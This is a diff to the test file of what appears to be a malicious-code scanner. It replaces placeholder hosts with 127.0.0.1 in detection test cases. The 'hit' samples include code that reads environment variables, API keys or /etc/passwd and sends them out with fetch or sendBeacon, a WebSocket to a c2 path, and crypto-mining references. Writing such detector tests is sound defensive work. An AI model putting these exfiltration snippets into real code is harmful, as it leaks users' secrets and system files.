@@ -18,12 +18,12 @@ const CASES: Record<string, { hit: string[]; miss: string[] }> = {
     miss: ['const evaluate = (x: number) => x; evaluate(1);', "setTimeout(() => 1, 10)", 'const s = "do not eval this";', "type F = Function;", "const o = { eval: 1 }; o.eval;", "function f(cb: Function) {}"],
   },
   "crypto-mining": {
-    hit: ['const pool = "stratum+tcp://pool.example:3333";', "import CoinHive from 'coinhive';", "startXMRig()"],
+    hit: ['const pool = "stratum+tcp://127.0.0.1:3333";', "import CoinHive from 'coinhive';", "startXMRig()"],
     miss: ['const strata = "geology";'],
   },
   "suspicious-network": {
-    hit: ['new WebSocket("ws://evil.example:6667/c2")', "new WebSocket('wss://[::1]:9001')"],
-    miss: ['new WebSocket("wss://api.example:443/x")', 'new WebSocket("ws://localhost:3000")', 'new WebSocket("wss://api.example/x")'],
+    hit: ['new WebSocket("ws://127.0.0.1:6667/c2")', "new WebSocket('wss://[::1]:9001')"],
+    miss: ['new WebSocket("wss://127.0.0.1:443/x")', 'new WebSocket("ws://localhost:3000")', 'new WebSocket("wss://127.0.0.1/x")'],
   },
   "semantic-unbounded-query": {
     hit: ["graphClient.patternQuery({ predicate: 'x' })", "graphClient.listTriples()", "patternQuery({ predicate: 'x', limit: 1000000 })"],
@@ -46,7 +46,7 @@ const CASES: Record<string, { hit: string[]; miss: string[] }> = {
     miss: ["globalThis.console.log(1)", "myWindow[k]"],
   },
   "process-env-bracket": {
-    hit: ['const t = process["env"]; fetch("https://x.example", { body: t })', 'const v = process.env[k]; fetch(u, { method: "POST", body: v })'],
+    hit: ['const t = process["env"]; fetch("http://127.0.0.1:9", { body: t })', 'const v = process.env[k]; fetch(u, { method: "POST", body: v })'],
     miss: ['const t = process["env"];', 'const v = process.env[k];'],
   },
   "dynamic-import": {
@@ -58,7 +58,7 @@ const CASES: Record<string, { hit: string[]; miss: string[] }> = {
     miss: ["class A { constructor() {} }", "this.constructor.name"],
   },
   "potential-exfiltration": {
-    hit: ['const d = readFileSync("/etc/passwd"); fetch("https://x.example", { body: d })'],
+    hit: ['const d = readFileSync("/etc/passwd"); fetch("http://127.0.0.1:9", { body: d })'],
     miss: ['const d = readFileSync("data.json");'],
   },
   "obfuscated-code-hex": {
@@ -70,8 +70,8 @@ const CASES: Record<string, { hit: string[]; miss: string[] }> = {
     miss: ['atob("QUJD")', `const s = "${"QUJD".repeat(60)}";`],
   },
   "env-harvesting": {
-    hit: ['const k = process.env.API_KEY; fetch("https://x.example/?k=" + k)', 'const e = process["e" + "nv"]; navigator.sendBeacon(u, JSON.stringify(e))'],
-    miss: ["const port = process.env.PORT;", 'fetch("https://x.example")'],
+    hit: ['const k = process.env.API_KEY; fetch("http://127.0.0.1:9/?k=" + k)', 'const e = process["e" + "nv"]; navigator.sendBeacon(u, JSON.stringify(e))'],
+    miss: ["const port = process.env.PORT;", 'fetch("http://127.0.0.1:9")'],
   },
 };
 
@@ -113,7 +113,7 @@ describe("layer 1: anti-evasion normalization", () => {
   });
 
   test("comments, strings and regexes that only mention the calls are not findings", () => {
-    expect(scanSource('// eval("x")\n/* new Function("y") */\nconst url = "http://example.com";\nconst re = /eval/;\nconst half = a / 2 / b;\n', "a.ts")).toEqual([]);
+    expect(scanSource('// eval("x")\n/* new Function("y") */\nconst url = "http://127.0.0.1:9";\nconst re = /eval/;\nconst half = a / 2 / b;\n', "a.ts")).toEqual([]);
   });
 
   test("a line rule reports once per file with the line of the statement", () => {
